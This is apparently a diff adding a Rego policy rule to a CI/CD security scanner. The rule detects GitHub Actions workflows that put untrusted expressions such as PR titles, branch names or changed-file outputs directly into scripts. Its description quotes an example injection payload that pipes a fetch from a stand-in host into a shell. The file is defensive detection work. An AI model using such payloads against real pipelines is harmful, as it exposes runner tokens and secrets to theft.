@@ -1,0 +1,114 @@
+# SPDX-License-Identifier: Apache-2.0
+
+# METADATA
+# title: Scripts take what others wrote from variables, not from expressions
+# description: An expression is put into a script as text before the shell reads it. A title such as a";curl evil|sh;" then runs on the runner, with the job's token and secrets.
+# related_resources:
+# - ref: https://docs.github.com/en/actions/concepts/security/script-injections
+#   description: GitHub, script injections
+# - ref: https://docs.zizmor.sh/audits/#template-injection
+#   description: zizmor, template-injection
+# - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution
+#   description: OWASP CI/CD risks, CICD-SEC-4
+# custom:
+#   id: pipeline.script-injection
+#   severity: high
+#   remediation: "Give the value to the step as a variable (env: TITLE: ${{ … }}) and use it quoted (\"$TITLE\"); in actions/github-script read it from context.payload or process.env."
+#   zeroTrust: [Z1, Z2, Z4]
+#   kinds: [github]
+package sealock.config.pipeline.script_injection
+
+import data.sealock.lib.config_github as github
+
+finding contains f if {
+	some sink in sinks
+	some hit in hits(sink)
+	f := {
+		"item": sink.item.id, "path": sink.path, "severity": severity(sink.item, hit.by),
+		"message": sprintf("%s, which %s can write, becomes part of the script", [hit.field, who[hit.by]]),
+		"found": sprintf("${{ %s }}", [hit.field]), "expected": "a variable of the environment, in quotes",
+	}
+}
+
+who := {
+	"anybody": "anybody", "members": "anybody with the right to push or release", "callers": "whoever starts or calls this",
+	"files": "anybody who names a file or branch in a pull request",
+}
+
+scripts := {
+	"actions/github-script": {"script"}, "azure/powershell": {"inlinescript"}, "azure/cli": {"inlinescript"}, "appleboy/ssh-action": {"script"},
+	"addnab/docker-run-action": {"run", "options"}, "jannekem/run-python-script-action": {"script"}, "amadevus/pwsh-script": {"script"},
+	"cardinalby/js-eval-action": {"expression"}, "mikefarah/yq": {"cmd"}, "nick-fields/retry": {"command"}, "nick-invision/retry": {"command"},
+	"reactivecircus/android-emulator-runner": {"script", "pre-emulator-launch-script"}, "cross-platform-actions/action": {"run"},
+	"vmactions/freebsd-vm": {"run", "prepare"}, "uraimo/run-on-arch-action": {"run", "install", "setup"}, "devcontainers/ci": {"runcmd"},
+	"google-github-actions/ssh-compute": {"command"}, "lycheeverse/lychee-action": {"args"},
+}
+
+sinks := array.concat(
+	[{"item": s.item, "job": s.job, "spec": s.spec, "path": array.concat(s.path, ["run"]), "text": s.text} | some s in github.runs; contains(s.text, "${{")],
+	[{"item": s.item, "job": s.job, "spec": s.spec, "path": array.concat(s.path, ["with", key]), "text": value} |
+		some s in github.steps
+		names := scripts[github.action(s.spec)]
+		some key, value in object.get(s.spec, "with", {})
+		lower(key) in names
+		is_string(value)
+		contains(value, "${{")
+	],
+)
+
+hits(sink) := {hit |
+	some e in github.expressions(sink.text)
+	some hit in array.concat([h | some h in github.writable(e)], [h | some h in indirect(sink, e)])
+	not harmless(sink.item, hit)
+}
+
+# A variable of the environment that is put in as an expression is no better than what it holds.
+indirect(sink, e) := {{"field": sprintf("env.%s (%s)", [key, w.field]), "by": w.by} |
+	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])env\.([\w-]+)`, github.value_of(e), -1)
+	some key, value in github.environment(sink.item, sink.job, sink.spec)
+	lower(key) == m[1]
+	some inner in github.expressions(github.text_of(value))
+	some w in github.writable(inner)
+} | {{"field": o, "by": "files"} |
+	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])(steps\.([\w-]+)\.outputs\.([\w-]+))`, github.value_of(e), -1)
+	o := m[1]
+	some step in sink.job.steps
+	lower(github.text_of(object.get(step.spec, "id", ""))) == m[2]
+	outputs := telling[github.action(step.spec)]
+	regex.match(outputs, m[3])
+}
+
+# telling is actions whose outputs are names that a pull request chooses.
+telling := {
+	"tj-actions/changed-files": `files$`, "step-security/changed-files": `files$`, "dorny/paths-filter": `_files$`, "jitterbit/get-changed-files": `^(all|added|modified|removed|renamed|added_modified)$`,
+	"trilom/file-changes-action": `^files`, "masesgroup/retrieve-changed-files": `^(all|added|modified|removed|renamed)`, "tj-actions/branch-names": `^(current_branch|head_ref_branch|ref_branch)$`,
+	"xt0rted/pull-request-comment-branch": `^head_ref$`, "peter-evans/find-comment": `^comment-body$`, "khan/pull-request-comment-trigger": `^comment_body$`,
+}
+
+# Inputs whose type leaves no room for a script.
+harmless(item, hit) if {
+	hit.by == "callers"
+	name := trim_prefix(hit.field, "inputs.")
+	declared := {lower(github.text_of(object.get(spec, "type", "string"))) |
+		some event in ["workflow_dispatch", "workflow_call"]
+		some key, spec in object.get(item.events, [event, "inputs"], {})
+		is_object(spec)
+		lower(key) == name
+	}
+	count(declared) > 0
+	every type in declared { type in {"boolean", "number", "choice", "environment"} }
+}
+
+severity(item, "anybody") := "critical" if {
+	github.privileged(item)
+} else := "high"
+
+severity(_, "members") := "low"
+
+severity(item, "callers") := "medium" if {
+	item.kind == "action"
+} else := "low"
+
+severity(item, "files") := "critical" if {
+	github.privileged(item)
+} else := "medium"
